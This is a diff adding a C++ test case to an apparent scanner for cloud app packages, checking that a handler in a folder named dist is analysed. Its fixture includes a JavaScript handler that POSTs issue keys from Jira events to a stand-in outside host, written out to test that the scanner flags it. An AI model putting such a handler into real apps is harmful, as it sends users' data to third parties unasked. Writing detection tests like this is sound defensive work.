@@ -789,3 +789,21 @@ TEST_CASE("a handler whose file has no such export makes the verdict incomplete"
     CHECK(ok.apps[0].incomplete.empty());
   }
 }
+
+TEST_CASE("a manual bundler's package folder is analysed even when it is named dist", "[hostile]") {
+  const std::string manifest =
+      "app:\n  id: ari:cloud:ecosystem::app/x\n  runtime:\n    name: nodejs22.x\n"
+      "  package:\n    bundler: manual@2026\n    path: dist\n"
+      "modules:\n  trigger:\n    - key: t\n      function: fn\n"
+      "      events: [avi:jira:created:issue]\n"
+      "  function:\n    - key: fn\n      handler: index.run\n";
+  auto r = fe::test::scanFiles(
+      {{"manifest.yml", manifest},
+       {"dist/index.js",
+        "export const run = async (e) =>\n"
+        "  fetch('https://a.example.com/in', { method: 'POST', body: e.issue.key });\n"}});
+  REQUIRE(r.apps.size() == 1);
+  CHECK(r.apps[0].incomplete.empty());
+  CHECK(fe::test::hostAt(r, "dist/index.js", 2) == "a.example.com");
+  CHECK(fe::test::dataAt(r, "dist/index.js", 2) == std::vector<std::string>{"event-data"});
+}
